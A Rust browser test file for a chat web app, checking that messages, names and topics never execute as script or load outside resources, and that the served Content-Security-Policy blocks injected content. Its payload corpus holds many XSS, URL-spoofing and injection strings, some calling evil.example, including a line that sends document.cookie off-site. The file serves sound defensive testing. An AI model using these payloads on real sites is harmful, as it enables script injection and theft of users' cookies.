//! Nothing that is said can run, load or look like anything but text.

use serde_json::{Value, json};

use crate::browser::{Browser, Tab};
use crate::site::Site;
use crate::talk::door_key;

/// What people try: markup, scripts, addresses, letters that turn others about, and ways round a CSP.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<svg onload=alert(1)><script href=data:,alert(1) />",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"/></svg>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">",
    "<form action=//evil.example><button>Click</button></form>",
    "<style>@import '//evil.example/x.css'; *{display:none}</style>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<math><mtext></table></math><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "</div></body></html><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "--><!-- <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;script&#x3E;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)} <%= alert(1) %>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://example.org",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1) view-source:https://a.b blob:https://a.b/1 file:///etc/passwd",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "https://example.org/'onclick='alert(1)'",
    "https://example.org@evil.example/ https://еxample.org/",
    "http://[::1]:80/ http://0x7f.1/ http://127.1/ https://a.b:99999/",
    "https:javascript:alert(1) https:/\\evil.example https:////evil.example",
    "https://example.org/\u{200b}\u{200d}\u{feff}x",
    "{\"event\":\"said\",\"name\":\"root\",\"text\":\"x\"}",
    "{\"event\":\"__proto__\"} {\"__proto__\":{\"isOwn\":true}} constructor toString",
    "\u{202e}gnp.exe \u{2066}x\u{2069} \u{200f}\u{200e}\u{61c}",
    "Z\u{351}\u{32b}a\u{30b}\u{319}\u{34e}\u{331}l\u{343}\u{333}g\u{343}\u{36c}\u{346}o\u{34e}\u{35b}\u{352}\u{323}",
    "\u{fdfd}\u{fdfd}\u{fdfd}\u{12031}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{fe0f}\u{20e3} \u{e0041}\u{e007f}",
    "%3Cscript%3Ealert(1)%3C/script%3E %0d%0aSet-Cookie:x",
    "* The operator ali has kicked you.",
    "hasan has left the chatroom!",
    "report-uri //evil.example; script-src 'unsafe-eval'",
    "import('//evil.example/x.js'); fetch('//evil.example'); new Worker('data:,')",
    "window.name = document.cookie; location = '//evil.example'",
];

/// Notes what of it runs, asks, or is stopped by the policy.
const WATCH: &str = "
    globalThis.caught = [];
    for (const name of ['alert', 'confirm', 'prompt', 'open']) {
        globalThis[name] = (...what) => caught.push(`${name}: ${what}`);
    }
    document.addEventListener('securitypolicyviolation', (event) =>
        caught.push(`violation: ${event.violatedDirective} ${event.blockedURI}`));
    addEventListener('error', (event) => caught.push(`error: ${event.message}`), true);
    addEventListener('unhandledrejection', (event) => caught.push(`rejected: ${event.reason}`));";

/// What elements there may be, inside of what people say.
const STRANGERS: &str = "
    [...document.querySelectorAll('#log *, #names *, #topic *, #waiting *, #hint *')]
        .filter((element) => !['DIV', 'SPAN', 'TIME', 'BDI', 'A', 'MARK', 'P', 'LI', 'BUTTON'].includes(element.tagName)
            || [...element.attributes].some(({ name }) => name.startsWith('on')
                || ['src', 'srcset', 'srcdoc', 'action', 'formaction'].includes(name)))
        .map((element) => element.outerHTML)";

fn watched<'t, 'b>(turn: &'t crate::browser::Turn<'b>, url: &str) -> Tab<'t, 'b> {
    let page = turn.tab();
    page.tell(
        "Page.addScriptToEvaluateOnNewDocument",
        &json!({"source": WATCH}),
    );
    page.go(url);
    page
}

/// Every address the browser has asked for anything.
fn asked(turn: &crate::browser::Turn<'_>) -> Vec<String> {
    turn.log("performance")
        .iter()
        .filter_map(|entry| {
            let message: Value = serde_json::from_str(entry["message"].as_str()?).ok()?;
            let message = &message["message"];
            let method = message["method"].as_str()?;
            let is_asking =
                ["Network.requestWillBeSent", "Network.webSocketCreated"].contains(&method);
            let params = &message["params"];
            let url = params["request"]["url"]
                .as_str()
                .or_else(|| params["url"].as_str())?;
            is_asking.then(|| url.to_owned())
        })
        .filter(|url| !url.starts_with("about:") && !url.starts_with("chrome:"))
        .collect()
}

#[test]
fn nothing_said_can_run() {
    let Some(browser) = Browser::find() else {
        return;
    };
    let turn = browser.turn();
    let (line, secret) = door_key();
    let folder = tempfile::tempdir().unwrap();
    let state = folder.path().join("room.state");
    std::fs::write(&state, line).unwrap();
    let site = Site::start(&["--state", state.to_str().unwrap()]);
    let page = watched(&turn, &site.url());
    page.enter("hasan");
    let ali = site.join(&format!("ali {secret}"));
    // Names have their own rules; those of these texts that can be names are.
    let mut names = Vec::new();
    for name in [
        "alert(1)//",
        "a'onclick='alert(1)",
        "x\"onerror=alert(1)",
        "a<b>c</b>",
        "a<img/src=x>",
        "constructor",
        "__proto__",
        "a&lt;b",
        "${alert(1)}",
        "hasOwnProperty",
        "xn--a",
    ] {
        let mut peer = site.server.connect();
        peer.expect("Please enter your name:");
        peer.say(name);
        if peer.line() == "Chat with your friends and enjoy" {
            peer.say("my name is said");
            page.expect_last(&format!("{name}: my name is said"));
            names.push(peer);
        }
    }
    assert!(names.len() >= 6, "{}", names.len());
    for text in CORPUS {
        let shown = text.replace(['\u{202e}', '\u{2066}', '\u{2069}'], "\u{fffd}");
        for command in ["", "/me ", "/msg hasan ", "/topic "] {
            ali.say(format!("{command}.{text}"));
        }
        page.expect_last(&format!("The operator ali has set the topic: .{shown}"));
        let lines = page.lines();
        let told = [
            format!("ali: .{shown}"),
            format!("ali .{shown}"),
            format!("ali to you alone: .{shown}"),
        ];
        assert!(
            lines.ends_with(&[&told[..], &lines[lines.len() - 1..]].concat()),
            "{text}"
        );
        let topic = page.text("document.getElementById('topic').textContent");
        assert_eq!(topic, format!(".{shown}"));
    }
    assert_eq!(page.value(STRANGERS), json!([]));
    let links = page.value(
        "[...document.querySelectorAll('#log a, #topic a')].filter((link) => \
         !/^https?:$/.test(link.protocol) || link.rel !== 'noopener noreferrer').length",
    );
    assert_eq!(links, 0);
    page.run(
        "for (const element of document.querySelectorAll('#log .text, #log .name')) \
         for (const type of ['mouseover', 'mouseenter', 'focus', 'click']) \
         if (element.closest('a') === null) element.dispatchEvent(new MouseEvent(type, { bubbles: true }))",
        &[],
    );
    // One says it oneself, and it waits and stands in the hint.
    for text in &CORPUS[..6] {
        page.run("document.getElementById('line').value = ''", &[]);
        page.say(&format!(".{text}"));
        page.expect_last(&format!("hasan: .{text}"));
    }
    // What a newcomer of such a room sees at once.
    let late = watched(&turn, &site.other_url());
    late.enter("late");
    assert_eq!(late.value(STRANGERS), json!([]));
    for page in [&page, &late] {
        assert_eq!(page.value("caught"), json!([]));
    }
    let web = site.web().port();
    let strange: Vec<_> = asked(&turn)
        .into_iter()
        .filter(|url| {
            let rest = url.split_once("://").map_or("", |(_, rest)| rest);
            let host = rest.split('/').next().unwrap_or_default();
            host != format!("127.0.0.1:{web}") && host != format!("localhost:{web}")
        })
        .collect();
    assert!(strange.is_empty(), "{strange:?}");
    let log = turn.log("browser");
    assert!(log.is_empty(), "{log:#?}");
}

#[test]
fn the_policy_that_is_served_stops_what_would_get_in() {
    let Some(browser) = Browser::find() else {
        return;
    };
    let turn = browser.turn();
    let site = Site::start(&[]);
    let page = watched(&turn, &site.url());
    page.enter("hasan");
    // Were there a hole, this is what would come through it; so the watching above can fail.
    page.run(
        "const at = document.body;
         at.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)><b style=\"color:red\" onclick=alert(1)>x</b>');
         at.lastChild.click();
         const script = document.createElement('script');
         script.textContent = 'alert(2)';
         at.append(script);
         const image = new Image();
         image.src = 'http://evil.example/pixel.gif';
         fetch('http://evil.example/').catch(() => {});",
        &[],
    );
    page.wait("caught.filter((what) => what.startsWith('violation')).length >= 5");
    let ran = page.value("caught.filter((what) => what.startsWith('alert'))");
    assert_eq!(ran, json!([]));
    assert!(asked(&turn).iter().any(|url| url.ends_with("/ws")));
}
